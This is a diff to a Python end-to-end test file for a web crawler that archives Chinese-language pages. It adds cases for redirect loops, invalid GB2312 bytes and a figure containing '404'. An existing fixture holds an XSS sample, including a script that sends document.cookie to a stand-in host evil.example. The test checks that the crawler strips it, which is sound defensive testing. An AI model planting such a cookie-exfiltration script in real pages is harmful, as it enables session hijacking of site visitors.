@@ -40,6 +40,7 @@ from crawler.evidence.fake_wayback import FakeWayback
 from crawler.runner import crawl_in_subprocess
 from tests.conftest import resize_filesystem, small_filesystem
 from tests.test_archive_queue import ACCESS, SECRET, cli_env, submissions
+from tests.test_extract import broken_gb2312_page
 from tests.test_attachments_e2e import write_xlsx
 
 pytestmark = pytest.mark.e2e
@@ -384,12 +385,13 @@ def test_kill_9_at_random_points_mid_archive_never_submits_twice(tmp_path, fault
         finished = docwatch.run("archive", "run")
         assert finished.returncode == 0, finished.stderr
         submitted = submissions(wayback)
+    queued = {faulty_site.base_url + path for path in ["/col/index.shtml", *paths]}  # the list page is evidence too
     figures.duplicated = sum(count - 1 for count in submitted.values())
-    figures.lost = len(paths) - len(submitted)
+    figures.lost = len(queued - set(submitted))
     figures.orphaned = docwatch.orphaned
     figures.tracebacks = docwatch.tracebacks()
     figures.assert_zero()
-    assert docwatch.query("SELECT state, count(*) FROM archive_requests GROUP BY state") == [("done", len(paths))]
+    assert docwatch.query("SELECT state, count(*) FROM archive_requests GROUP BY state") == [("done", len(queued))]
 
 
 def test_the_daemon_s_time_limit_kills_the_crawl_with_its_workers(tmp_path, faulty_site, figures, monkeypatch):
@@ -424,7 +426,8 @@ def test_the_daemon_s_time_limit_kills_the_crawl_with_its_workers(tmp_path, faul
     figures.half_written = docwatch.half_written()
     figures.assert_zero()
     assert len(seen) >= 3, "the crawl had not started its extraction workers"  # the crawl and its workers
-    assert docwatch.query("SELECT count(*) FROM snapshots") == [(3,)]
+    assert docwatch.query("SELECT count(*) FROM snapshots s JOIN pages p ON p.id = s.page_id WHERE p.kind = 'article'") \
+        == [(3,)]
 
 
 LIFELINE_PARENT = """
@@ -543,7 +546,10 @@ SERVER_FAULTS = {
     "/f/challenge.shtml": (Answer(200, CHALLENGE), "anti-bot JavaScript challenge page", False),
     "/f/soft404.shtml": (Answer(200, SOFT_404), "error page: 页面不存在", True),
     "/f/gone-home.shtml": (Answer(302, b"", {"Location": "/"}), "redirected to the site's home page", True),
+    "/f/loop.shtml": (Answer(302, b"", {"Location": "/f/loop-back.shtml"}), "redirect loop", False),
 }
+# The other half of the loop: not watched, it sends the watched page's request back where it came from.
+LOOP_BACK = {"/f/loop-back.shtml": Answer(301, b"", {"Location": "/f/loop.shtml"})}
 
 
 def page_sources(site: FaultySite, paths) -> str:
@@ -565,6 +571,7 @@ def test_server_faults_are_recorded_failures_and_never_false_removals(tmp_path, 
     assert docwatch.run("crawl").returncode == 0
     for path, (fault, _, _) in SERVER_FAULTS.items():
         faulty_site.answers[path] = fault
+    faulty_site.answers.update(LOOP_BACK)
     for run in (2, 3):
         result = docwatch.run("crawl")
         assert result.returncode == 0, result.stderr
@@ -603,6 +610,9 @@ NESTED = ("<html><head><title>嵌套</title></head><body>" + "<div>" * 100_000 +
 SCRIPTED = ("<html><head><title>转移就业&lt;script&gt;alert(1)&lt;/script&gt;</title>"
             "<script>fetch('http://evil.example/'+document.cookie)</script></head><body><div id='zoom'>"
             "<p>转移就业1000人次<img src=x onerror=alert(2)></p><script>alert(3)</script></div></body></html>").encode()
+BROKEN_BYTES = broken_gb2312_page()[0]  # declared gb2312, four invalid byte sequences
+FIGURE_WITH_404 = ("<html><head><title>皮山县转移就业2404人</title></head><body><div id='zoom'>"
+                   "<p>皮山县转移就业2404人。</p></div></body></html>").encode()
 CONTROLS = "<html><head><title>转移\u202e就业\x1b[31m\x07红\u200f</title></head><body><div id='zoom'><p>转移就业\x1b[2J 2000人次\u202e</p></div></body></html>".encode()
 
 
@@ -613,6 +623,8 @@ def test_hostile_pages_are_bounded_and_recorded_without_a_traceback(tmp_path, fa
         "/h/nested.shtml": Answer(body=NESTED),
         "/h/scripted.shtml": Answer(body=SCRIPTED),
         "/h/controls.shtml": Answer(body=CONTROLS),
+        "/h/broken-bytes.shtml": Answer(body=BROKEN_BYTES, headers={"Content-Type": "text/html; charset=gb2312"}),
+        "/h/figure-404.shtml": Answer(body=FIGURE_WITH_404),
     }
     faulty_site.answers.update(pages)
     trap_pages = []
@@ -647,6 +659,14 @@ def test_hostile_pages_are_bounded_and_recorded_without_a_traceback(tmp_path, fa
     assert recorded["/h/scripted.shtml"] == "new: " and recorded["/h/controls.shtml"] == "new: ", recorded
     [(title, text)] = docwatch.query("SELECT title, text FROM snapshots WHERE final_url LIKE '%scripted%'")
     assert "evil.example" not in text and "alert(3)" not in text and "转移就业1000人次" in text
+    # Invalid bytes in a GB page: the text around them survives, and how many were bad is recorded.
+    assert recorded["/h/broken-bytes.shtml"] == "new: ", recorded
+    [(encoding, bad, text)] = docwatch.query(
+        "SELECT encoding, undecodable_bytes, text FROM snapshots WHERE final_url LIKE '%broken-bytes%'")
+    assert encoding == "gb18030" and bad > 0 and "全县累计转移就业2404人" in text.replace("\ufffd", "")
+    # A figure containing 404 is a page, not a "page not found".
+    assert recorded["/h/figure-404.shtml"] == "new: ", recorded
+    assert docwatch.query("SELECT count(*) FROM events WHERE type = 'removed'") == [(0,)]
     figures.duplicated = docwatch.duplicated_snapshots()
     figures.tracebacks = docwatch.tracebacks()
     figures.half_written = docwatch.half_written()
